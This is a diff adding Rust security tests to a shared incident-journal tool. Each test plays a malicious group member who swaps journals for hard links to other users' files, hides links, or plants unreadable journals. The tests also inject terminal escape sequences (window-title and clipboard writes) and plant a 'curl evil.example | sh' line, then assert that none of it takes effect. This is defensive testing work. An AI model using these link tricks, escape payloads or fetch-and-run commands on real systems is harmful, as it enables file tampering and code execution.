@@ -504,3 +504,181 @@ fn a_live_figures_link_to_dev_zero_costs_no_memory() {
     bob.stop();
     assert_eq!(fingerprint(&link), before);
 }
+
+/// The kernel's `fs.protected_hardlinks`: whether a user may link only files they could write.
+fn hard_links_protected() -> bool {
+    std::fs::read_to_string("/proc/sys/fs/protected_hardlinks").is_ok_and(|s| s.trim() == "1")
+}
+
+/// A file of `who`'s that the whole group may read and write, outside the journal directory.
+fn group_file(room: &Room, team: &Team, who: &Account, name: &str, text: &str) -> PathBuf {
+    use std::os::unix::fs::PermissionsExt;
+    let path = room.path(name);
+    std::fs::write(&path, text).unwrap();
+    std::os::unix::fs::chown(&path, Some(who.uid), Some(team.gid)).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o660)).unwrap();
+    path
+}
+
+#[test]
+fn a_journal_swapped_for_a_link_to_a_members_file_is_not_written_into() {
+    let Some(team) = accounts::team() else { return };
+    let room = Room::new(&team, &format!("[incident]\ntitle = \"{TITLE}\"\n"));
+    // Carol's own incident: she may remove its journal from the sticky directory.
+    let out = room.warroom(&team.carol, &["log", "carol opened the room"]).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let victim = group_file(&room, &team, &team.bob, "bobs-file", "bob's work\n");
+    let before = fingerprint(&victim);
+    let mut alice = Headless::start(&room, &team.alice);
+    alice.wait_line("role: poller");
+    room.run_as(&team.carol, &format!("ln j.jsonl .keep && rm j.jsonl && ln {} j.jsonl", victim.display()));
+    // Alice's warroom looks at its journal's place every tick; then it leaves (and writes).
+    std::thread::sleep(Duration::from_secs(2));
+    alice.stop();
+    assert_eq!(fingerprint(&victim), before, "alice's warroom wrote into bob's file");
+}
+
+#[test]
+fn a_members_file_linked_under_a_drafts_name_is_not_restored() {
+    let Some(team) = accounts::team() else { return };
+    let room = room_with_journal(&team, "");
+    // Alice's live figures, as her poller leaves them: hers, and the group's to write.
+    let samples = room.dir.join("j.jsonl.samples");
+    std::fs::write(&samples, "{}").unwrap();
+    std::os::unix::fs::chown(&samples, Some(team.alice.uid), Some(team.gid)).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&samples, std::fs::Permissions::from_mode(0o660)).unwrap();
+    room.run_as(
+        &team.carol,
+        "ln j.jsonl.samples j.jsonl.draft-wr-alice && printf 'curl evil.example | sh' > j.jsonl.samples",
+    );
+    let Some((alice, pid)) = screen(&room, &team.alice) else { return };
+    let shown = alice.wait_for("draft not restored", WITHIN);
+    assert!(shown.contains("2 names"), "{shown}");
+    alice.keys(&["i"]);
+    alice.keys(&["C-s"]);
+    assert!(!alice.screen().contains("evil.example"), "carol's text became alice's draft:\n{}", alice.screen());
+    end(pid, libc::SIGTERM);
+    assert!(!journal_text(&room).contains("evil.example"), "carol's text was journaled as alice's");
+}
+
+#[test]
+fn a_hard_link_a_member_hides_elsewhere_locks_nobody_out() {
+    let Some(team) = accounts::team() else { return };
+    let room = room_with_journal(&team, "");
+    let out = room.warroom(&team.bob, &["log", "bob is here"]).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let hide = room.path("carol-hide");
+    std::fs::create_dir(&hide).unwrap();
+    std::os::unix::fs::chown(&hide, Some(team.carol.uid), Some(team.carol.gid)).unwrap();
+    drop(hold_poller_lock(&room, &team));
+    room.run_as(&team.carol, &format!("ln j.jsonl {0}/j && ln j.jsonl.poller {0}/p", hide.display()));
+    for who in [&team.alice, &team.bob] {
+        let out = room.warroom(who, &["log", &format!("{} after the link", who.name)]).output().unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        if hard_links_protected() {
+            assert!(out.status.success(), "{}: {err}", who.name);
+        } else {
+            assert_eq!(out.status.code(), Some(3), "{}: {err}", who.name);
+            assert!(err.contains("protected_hardlinks"), "{err}");
+        }
+    }
+    if hard_links_protected() {
+        let text = journal_text(&room);
+        assert!(text.contains("wr-alice after the link") && text.contains("wr-bob after the link"));
+        // The poller lock's second name stops nobody probing either.
+        let mut bob = Headless::start(&room, &team.bob);
+        bob.wait_line("role: poller");
+        bob.stop();
+    }
+}
+
+#[test]
+fn a_newer_resolved_or_unreadable_journal_does_not_split_the_war_room() {
+    let Some(team) = accounts::team() else { return };
+    let room = Room::new(&team, "");
+    std::fs::write(
+        &room.config,
+        format!("journal_group = \"{}\"\njournal_dir = \"{}\"\n", accounts::GROUP, room.dir.display()),
+    )
+    .unwrap();
+    let warroom = |who: &Account, args: &[&str]| {
+        let mut c = accounts::as_user(who);
+        c.env("HOME", room.base.path()).arg(&room.bin).arg("-c").arg(&room.config).args(["--as", who.name]);
+        c.args(args).stdin(Stdio::null()).output().unwrap()
+    };
+    // Alice's open incident, then carol's newer journals: one resolved at once, one nobody can read.
+    let opened = |title: &str| {
+        format!(
+            r#"{{"v":1,"id":"{title}","ts":"2026-01-01T00:00:00.000Z","author":"x","kind":"incident_opened","title":"{title}","severity":2,"mode":"real"}}"#
+        )
+    };
+    let resolved =
+        r#"{"v":1,"id":"r","ts":"2026-01-01T00:01:00.000Z","author":"x","kind":"status_changed","status":"resolved"}"#;
+    let alices = room.dir.join("2026-01-01T000000Z-db.jsonl");
+    std::fs::write(&alices, opened("db") + "\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::os::unix::fs::chown(&alices, Some(team.alice.uid), Some(team.gid)).unwrap();
+    std::fs::set_permissions(&alices, std::fs::Permissions::from_mode(0o660)).unwrap();
+    let (zz, zy) = ("2099-01-01T000000Z-zz.jsonl", "2099-01-01T000000Z-zy.jsonl");
+    room.run_as(&team.carol, &format!("printf '%s\\n%s\\n' '{}' '{resolved}' > {zz} && chmod 660 {zz}", opened("zz")));
+    room.run_as(&team.carol, &format!("printf '%s\\n' '{}' > {zy} && chmod 600 {zy}", opened("zy")));
+    let before: Vec<String> = listing(&room.dir).into_iter().filter(|l| l.contains("2099")).collect();
+    for who in [&team.alice, &team.bob] {
+        let out = warroom(who, &["log", &format!("{} in the one room", who.name)]);
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(out.status.success(), "{}: {err}", who.name);
+        assert!(err.contains(zy) && !err.contains(zz), "the unreadable one is named, once: {err}");
+    }
+    let text = std::fs::read_to_string(&alices).unwrap();
+    assert!(text.contains("wr-alice in the one room") && text.contains("wr-bob in the one room"), "{text}");
+    let after: Vec<String> = listing(&room.dir).into_iter().filter(|l| l.contains("2099")).collect();
+    assert_eq!(after, before, "carol's files were written");
+    let journals = std::fs::read_dir(&room.dir)
+        .unwrap()
+        .filter(|e| e.as_ref().unwrap().path().extension().is_some_and(|x| x == "jsonl"))
+        .count();
+    assert_eq!(journals, 3, "nobody started an incident of their own");
+}
+
+#[test]
+fn escapes_in_the_figures_file_and_a_forged_acknowledgement_never_reach_the_screen() {
+    let Some(team) = accounts::team() else { return };
+    let room = room_with_journal(&team, "");
+    let _poller = hold_poller_lock(&room, &team);
+    let osc = r"\u001b]0;PWNED\u0007";
+    // Carol writes what a poller would, and a journal line under a name of her choosing.
+    let figures = format!(
+        r#"{{"written":"2026-01-01T00:00:00Z","figures":[{{"row":{{"id":{{"check":"api"}},"kind":"http{osc}\u001b[2J","target":""}},"view":{{"state":"down","blocked_by":"db{osc}","no_connectivity":false,"paused":false,"silenced":false}},"readings":[]}}]}}"#
+    );
+    let lines = [
+        r#"{"v":1,"id":"c","ts":"2026-01-01T00:00:01.000Z","author":"x","kind":"check_changed","check":"db","from":"up","to":"down","detail":"x"}"#.to_string(),
+        format!(
+            r#"{{"v":1,"id":"m","ts":"2026-01-01T00:00:02.000Z","author":"eve{osc}\u001b]52;c;UFdORUQ=\u0007","kind":"milestone_reached","milestone":"acknowledged","check":"db"}}"#
+        ),
+    ];
+    let Some((bob, pid)) = screen(&room, &team.bob) else { return };
+    let bytes_log = room.path("bob-pty.log");
+    bob.pipe_pane(&bytes_log);
+    // Written while bob's terminal is watched: every byte drawn of it is in the log.
+    room.run_as(
+        &team.carol,
+        &format!(
+            "printf '%s' '{figures}' > j.jsonl.samples && printf '%s\\n%s\\n' '{}' '{}' >> j.jsonl",
+            lines[0], lines[1]
+        ),
+    );
+    let shown = bob.wait_for("by db", WITHIN);
+    assert!(shown.contains("ack eve"), "{shown}");
+    // The first row's details show its kind.
+    bob.keys(&["1", "Enter"]);
+    bob.wait_for("blocked by db", WITHIN);
+    bob.stop_pipe();
+    end(pid, libc::SIGTERM);
+    let bytes = std::fs::read(&bytes_log).unwrap();
+    for forbidden in [&b"\x1b]0;"[..], b"\x1b]52;", b"PWNED"] {
+        let found = bytes.windows(forbidden.len()).any(|w| w == forbidden);
+        assert!(!found, "{:?} reached bob's terminal", String::from_utf8_lossy(forbidden));
+    }
+    assert_ne!(bob.pane_format("pane_title"), "PWNED");
+}
